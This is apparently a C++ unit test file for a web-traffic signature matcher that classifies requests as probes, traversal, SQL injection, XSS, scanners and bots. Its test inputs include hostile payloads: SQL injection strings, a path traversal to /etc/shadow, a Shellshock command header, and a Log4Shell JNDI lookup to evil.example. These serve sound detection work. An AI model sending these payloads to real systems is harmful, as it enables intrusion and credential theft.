#include <catch2/catch.hpp>

#include "signature/signature_matcher.hpp"
#include "support/test_support.hpp"

using namespace vigil;

TEST_CASE("the built-in signature set compiles and tags each class") {
  auto m = test::default_signatures();
  signature_matcher::scanner s{m};
  auto has = [](signature_mask m, signature_class c) { return (m & mask_of(c)) != 0; };
  CHECK(has(s.scan(signature_field::path, "/.env"), signature_class::probe));
  CHECK(has(s.scan(signature_field::path, "/app/.git/config"), signature_class::probe));
  CHECK(has(s.scan(signature_field::path, "/wp-admin/install.php"), signature_class::probe));
  CHECK(has(s.scan(signature_field::path, "/static/../../etc/shadow"), signature_class::traversal));
  CHECK(has(s.scan(signature_field::path, "/%2e%2e%2fetc"), signature_class::traversal));
  CHECK(has(s.scan(signature_field::query, "id=1' OR 1=1--"), signature_class::sqli));
  CHECK(has(s.scan(signature_field::query, "q=1+UNION+SELECT+password+FROM+users"), signature_class::sqli));
  CHECK(has(s.scan(signature_field::query, "q=<script>alert(1)"), signature_class::xss));
  CHECK(has(s.scan(signature_field::ua, "Mozilla/5.00 (Nikto/2.1.6)"), signature_class::scanner));
  CHECK(has(s.scan(signature_field::ua, "sqlmap/1.7.2#stable"), signature_class::scanner));
  CHECK(has(s.scan(signature_field::ua, "Googlebot/2.1 (+http://www.google.com/bot.html)"), signature_class::bot));
  CHECK(has(s.scan(signature_field::ua, "curl/8.4.0"), signature_class::tool));
  CHECK(has(s.scan(signature_field::path, "/wp-login.php"), signature_class::auth));
  CHECK(has(s.scan(signature_field::path, "/css/site.CSS"), signature_class::static_file));
  // Ordinary traffic matches nothing that counts as an attack.
  CHECK((s.scan(signature_field::path, "/products/42") & attack_mask) == 0);
  CHECK((s.scan(signature_field::query, "page=2&sort=price") & attack_mask) == 0);
  CHECK((s.scan(signature_field::ua, "Mozilla/5.0 (X11; Linux x86_64) Firefox/118.0") & attack_mask) == 0);
  // Payloads in the Referer and User-Agent are found there too.
  CHECK(has(s.scan(signature_field::ua, "() { :; }; /bin/bash -c id"), signature_class::shellshock));
  CHECK(has(s.scan(signature_field::referer, "http://x/?q=1' union select 1--"), signature_class::sqli));
  CHECK(has(s.scan(signature_field::ua, "${jndi:ldap://evil.example/a}"), signature_class::code));
  CHECK(has(s.scan(signature_field::ua, "EmailCollector/1.0"), signature_class::badbot));
}

TEST_CASE("a signature reports its id, and an id is unique in a set") {
  signature_set set;
  std::string error;
  REQUIRE(set.add_text("sqli-mine query,referer  drop\\s+everything\n", "extra.txt", error));
  REQUIRE(set.signatures().size() == 1);
  const signature& sig = set.signatures()[0];
  CHECK(sig.id == "sqli-mine");
  CHECK(sig.cls == signature_class::sqli);
  CHECK(sig.fields == (field_bit(signature_field::query) | field_bit(signature_field::referer)));
  auto m = signature_matcher::compile(set, error);
  REQUIRE(m);
  signature_matcher::scanner s{m};
  std::vector<uint32_t> matched;
  CHECK(s.scan(signature_field::referer, "x drop  everything", &matched) == mask_of(signature_class::sqli));
  CHECK(matched == std::vector<uint32_t>{0});
  CHECK(s.scan(signature_field::path, "x drop everything") == 0);

  CHECK_FALSE(set.add_text("\nsqli-mine path /x\n", "more.txt", error));
  CHECK(error == "more.txt:2: signature id 'sqli-mine' is already used at extra.txt:1");
  CHECK_FALSE(set.add_text("sqli-bad!id path /x\n", "more.txt", error));
  CHECK(error.find("more.txt:1: bad signature id 'sqli-bad!id'") == 0);
  // A bare class (the format before ids) gets its place as its id.
  REQUIRE(set.add_text("\nprobe path /y\n", "old.txt", error));
  CHECK(set.signatures().back().id == "probe@old.txt:2");
}

TEST_CASE("user signatures extend the set, and errors name file and line") {
  signature_set set = signature_set::defaults();
  std::string error;
  REQUIRE(set.add_text("# mine\nprobe path ^/secret-admin\n", "extra.txt", error));
  auto m = signature_matcher::compile(set, error);
  REQUIRE(m);
  signature_matcher::scanner s{m};
  CHECK((s.scan(signature_field::path, "/secret-admin/x") & mask_of(signature_class::probe)) != 0);

  signature_set bad;
  CHECK_FALSE(bad.add_text("\nwhatever path /x\n", "extra.txt", error));
  CHECK(error.find("extra.txt:2: unknown class 'whatever'") == 0);
  CHECK_FALSE(bad.add_text("probe body /x\n", "extra.txt", error));
  CHECK(error.find("extra.txt:1: unknown field 'body'") == 0);
  CHECK_FALSE(bad.add_text("probe path,cookie /x\n", "extra.txt", error));
  CHECK(error.find("extra.txt:1: unknown field 'cookie'") == 0);
  signature_set uncompilable;
  REQUIRE(uncompilable.add_text("probe path /ok\nprobe path (unclosed\n", "extra.txt", error));
  CHECK_FALSE(signature_matcher::compile(uncompilable, error));
  CHECK(error.find("extra.txt:2: pattern '(unclosed' does not compile") == 0);
}

TEST_CASE("the build-time databases classify exactly as a fresh compile of the same file") {
  std::string error;
  auto builtin = signature_matcher::builtin(error);
  REQUIRE(builtin);
  signature_matcher::scanner fresh{test::default_signatures()};
  signature_matcher::scanner loaded{builtin};
  const std::vector<std::pair<signature_field, std::string>> samples = {
    {signature_field::path, "/.env"}, {signature_field::path, "/a/../../b"},
    {signature_field::path, "/wp-login.php"}, {signature_field::path, "/img/logo.PNG"},
    {signature_field::path, "/products/1"}, {signature_field::query, "q=1'+OR+1=1--"},
    {signature_field::query, "x=%3Cscript%3E"}, {signature_field::ua, "sqlmap/1.7"},
    {signature_field::ua, "Googlebot/2.1"}, {signature_field::ua, "curl/8"},
    {signature_field::ua, "Mozilla/5.0 (X11)"}};
  for (const auto& [field, text] : samples) {
    INFO(text);
    CHECK(loaded.scan(field, text) == fresh.scan(field, text));
  }
}
